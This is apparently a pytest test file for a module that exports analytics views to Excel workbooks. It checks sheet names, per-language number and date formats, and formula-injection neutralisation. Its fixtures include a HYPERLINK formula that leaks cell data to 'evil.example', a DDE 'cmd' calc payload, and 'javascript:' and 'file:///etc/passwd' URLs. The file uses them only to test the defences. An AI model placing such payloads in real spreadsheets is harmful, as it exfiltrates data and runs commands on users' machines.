"""The Excel workbook of a view (clm_core.workbook): sheets, typed cells, formats per language, no formulas."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from clm_core.filters import SegmentFilter
from clm_core.viewstate import ViewState
from clm_core.workbook import describe_view, number_format, sheet_name, view_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def opened(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def values(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def tables():
    funnel = pd.DataFrame({
        "step": ["Visit", HYPERLINK, "-Order", "@sum(1)"],
        "customers": [1200, 800, 300, np.nan],
        "conversion": [1.0, 0.6667, 0.25, 0.1],
        "revenue": [1234.56, -5.0, 0.0, 12.5],
        "first_day": pd.to_datetime(["2024-03-05", "2024-03-06", None, "2024-03-08"]),
        "seen": [dt.date(2024, 1, 31), None, dt.date(2024, 2, 1), dt.date(2024, 2, 2)],
        "flag": [True, False, True, False],
    })
    return [("funnel", funnel, {"revenue": "euro", "conversion": "percent"}),
            ("funnel", pd.DataFrame({"a": [1]})),  # the same title again
            ("what: a [long] table title? with * and / and \\ characters", pd.DataFrame({"b": ["x"]}))]


def test_sheets_are_the_view_then_one_per_table_with_valid_unique_names(tables):
    book = opened(view_workbook([("Page", "Funnel")], tables, "en"))
    assert book.sheetnames[:2] == ["View", "funnel"]
    assert book.sheetnames[2] == "funnel (2)"
    third = book.sheetnames[3]
    assert len(third) <= 31 and not set(third) & set("[]:*?/\\")
    assert opened(view_workbook([], tables, "de")).sheetnames[0] == "Ansicht"


def test_sheet_names():
    used: set[str] = set()
    assert sheet_name("View", used) == "View"
    assert sheet_name("view", used) == "view (2)"  # Excel compares names case-insensitively
    long = "x" * 40
    assert sheet_name(long, used) == "x" * 31
    assert sheet_name(long, used) == "x" * 27 + " (2)"
    assert sheet_name("'quoted'", used) == "quoted"  # no apostrophe at either end
    assert sheet_name("", used, "Table") == "Table"
    assert sheet_name("History", used) == "History_"  # reserved by Excel
    assert sheet_name("a/b:c", used) == "a_b_c"


def test_numbers_are_numbers_with_the_language_s_format(tables):
    for lang, euro, percent in (("en", '"€"#,##0.00', "0.0%"), ("de", '#,##0.00 "€"', "0.0 %")):
        sheet = opened(view_workbook([], tables, lang))["funnel"]
        header = [c.value for c in sheet[1]]
        assert header == ["step", "customers", "conversion", "revenue", "first_day", "seen", "flag"]
        customers, conversion, revenue = sheet["B2"], sheet["C3"], sheet["D3"]
        assert customers.value == 1200 and customers.data_type == "n" and customers.number_format == "#,##0"
        assert conversion.value == pytest.approx(0.6667) and conversion.number_format == percent
        assert revenue.value == -5.0 and revenue.data_type == "n" and revenue.number_format == euro
        assert sheet["B5"].value is None  # a missing number is an empty cell
        assert sheet["G2"].value is True and sheet["G3"].value is False


def test_dates_are_dates(tables):
    for lang, code in (("en", "yyyy-mm-dd"), ("de", "dd.mm.yyyy")):
        sheet = opened(view_workbook([], tables, lang))["funnel"]
        assert sheet["E2"].value == dt.datetime(2024, 3, 5) and sheet["E2"].is_date
        assert sheet["E2"].number_format == code
        assert sheet["E4"].value is None  # NaT
        assert sheet["F2"].value == dt.datetime(2024, 1, 31) and sheet["F2"].number_format == code
        assert sheet["F3"].value is None


def test_text_is_never_a_formula(tables):
    data = view_workbook([("=cmd|' /C calc'!A0", "+1"), ("Dataset", "@dataset")], tables, "en")
    sheet = opened(data)["funnel"]
    assert [sheet[f"A{r}"].value for r in range(2, 6)] == [
        "Visit", "'" + HYPERLINK, "'-Order", "'@sum(1)"]
    assert all(sheet[f"A{r}"].data_type == "s" for r in range(2, 6))
    view = values(opened(data)["View"])
    assert view == [["'=cmd|' /C calc'!A0", "'+1"], ["Dataset", "'@dataset"]]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:  # no formula element anywhere in the file
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in archive.namelist() if name.startswith("xl/worksheets/"))
    # also with openpyxl's formula reading switched on: strings
    raw = openpyxl.load_workbook(io.BytesIO(data), data_only=False)["funnel"]
    assert raw["A3"].data_type == "s"


def test_header_cells_from_user_data_are_neutralised():
    sheet = opened(view_workbook([], [("t", pd.DataFrame({"=attr": ["a"], 5: [1]}))], "en"))["t"]
    assert [c.value for c in sheet[1]] == ["'=attr", "5"]


def test_the_view_sheet_rows():
    state = ViewState(page="funnel", dataset="ds1", as_of="2024-03-05", lang="de",
                      segment=SegmentFilter({"country": ("AT", "DE")}, ("active",), "2023-01", None),
                      params={"steps": ("visit", "order"), "window": ("30",)})
    rows = describe_view(state, dataset_name="Demo")
    assert rows[:3] == [("Seite", "Trichter"), ("Datensatz", "Demo"), ("Stichtag", dt.date(2024, 3, 5))]
    assert ("Segmentfilter: Phase", "Aktiv") in rows
    assert ("Segmentfilter: country", "AT, DE") in rows
    assert ("Segmentfilter: Erstkauf zwischen", "2023-01 – …") in rows
    assert ("Seitenparameter steps", "visit, order") in rows and ("Seitenparameter window", "30") in rows
    link = dict(rows)["Link"]
    assert link.startswith("?page=funnel&lang=de&ds=ds1&asof=2024-03-05") and "p.steps=visit&p.steps=order" in link

    view = values(opened(view_workbook(rows, [], "de"))["Ansicht"])
    assert view[:3] == [["Seite", "Trichter"], ["Datensatz", "Demo"], ["Stichtag", dt.datetime(2024, 3, 5)]]
    assert [tuple(r) for r in view[3:]] == [(label, value) for label, value in rows[3:]]

    plain = describe_view(ViewState(page="overview"), dataset_name="Demo", as_of=dt.date(2024, 1, 2))
    assert plain[:4] == [("Page", "Overview"), ("Dataset", "Demo"), ("As of", dt.date(2024, 1, 2)),
                         ("Segment filter", "none")]


def test_number_formats_follow_the_table_formats():
    def code(values, wanted=None, lang="en", name="x"):
        return number_format(pd.Series(values, name=name), wanted, lang)

    assert code([1, 2]) == "#,##0" and code([1.0, 2.0]) == "#,##0" and code([1.5]) == "#,##0.00"
    assert code([0.25], name="share") == "0.0%" and code([0.25], name="at_risk_share", lang="de") == "0.0 %"
    assert code([12, 30], name="share") == "#,##0"  # whole-number counts are not fractions
    assert code([3.21], "± %.1f") == '"± "#,##0.0'
    assert code([598.7], "%.2f €", "de") == '#,##0.00 "€"' and code([598.7], "%.0f €") == '"€"#,##0'
    assert code([52.5], "%.4f") == "#,##0.0000" and code([3], "%d") == "#,##0"
    assert code([2024], "plain") is None  # Excel's General
    assert code([1.5, 2.0], "localized") == "#,##0.00"


def test_awkward_values_do_not_break_the_workbook():
    frame = pd.DataFrame({
        "inf": [np.inf, -np.inf, 1.0],
        "mixed": [1, "=x", dt.date(2024, 1, 1)],
        "nullable": pd.array([1, None, 3], dtype="Int64"),
        "category": pd.Categorical(["-a", "b", "-a"]),
        "tz": pd.to_datetime(["2024-03-05 14:30", None, "2024-03-06 00:00"]).tz_localize("Europe/Vienna"),
        "period": pd.period_range("2024-01", periods=3, freq="M"),
    })
    sheet = opened(view_workbook([], [("awkward", frame), ("empty", pd.DataFrame())], "en"))["awkward"]
    assert [sheet[f"A{r}"].value for r in (2, 3, 4)] == ["∞", "'-∞", 1]
    assert [sheet[f"B{r}"].value for r in (2, 3, 4)] == [1, "'=x", dt.datetime(2024, 1, 1)]
    assert [sheet[f"C{r}"].value for r in (2, 3, 4)] == [1, None, 3]
    assert [sheet[f"D{r}"].value for r in (2, 3, 4)] == ["'-a", "b", "'-a"]
    assert sheet["E2"].value == dt.datetime(2024, 3, 5, 14, 30) and sheet["E2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["F2"].value == "2024-01"


def test_sheets_are_named_after_the_sections_titles():
    """Titles as the pages give them (the section's heading in the UI language): forbidden characters
    replaced, cut to 31 characters, unique also after the cut."""
    details = "Kampagnenwirkung · Details: Umsatz, Kosten, vorher → nachher"
    titles = ["Zuordnung: Lebenszyklusphase → 5-Phasen-Modell", "Phasenverlauf", "Phasenverlauf",
              details, details, "Wer? [Segment A/B] *neu*", "Ansicht"]
    data = view_workbook([("Seite", "Lebenszyklus")], [(title, pd.DataFrame({"n": [i]})) for i, title in
                                                        enumerate(titles)], "de")
    book = opened(data)
    assert book.sheetnames == [
        "Ansicht", "Zuordnung_ Lebenszyklusphase →", "Phasenverlauf", "Phasenverlauf (2)",
        "Kampagnenwirkung · Details_ Ums", "Kampagnenwirkung · Details_ (2)", "Wer_ _Segment A_B_ _neu_",
        "Ansicht (2)"]
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert [book[name]["A2"].value for name in book.sheetnames[1:]] == list(range(len(titles)))  # in order


def test_the_link_is_the_full_address_when_the_browser_gives_it():
    state = ViewState(page="nps", lang="en", dataset="ds1")
    link = dict(describe_view(state, base_url="https://clm.example.com/nps?old=1#top"))["Link"]
    assert link == "https://clm.example.com/nps?page=nps&lang=en&ds=ds1"
    for base in (None, "", "javascript:alert(1)", "file:///etc/passwd", "https://", 'https://x.example/" x="'):
        assert dict(describe_view(state, base_url=base))["Link"] == "?page=nps&lang=en&ds=ds1"
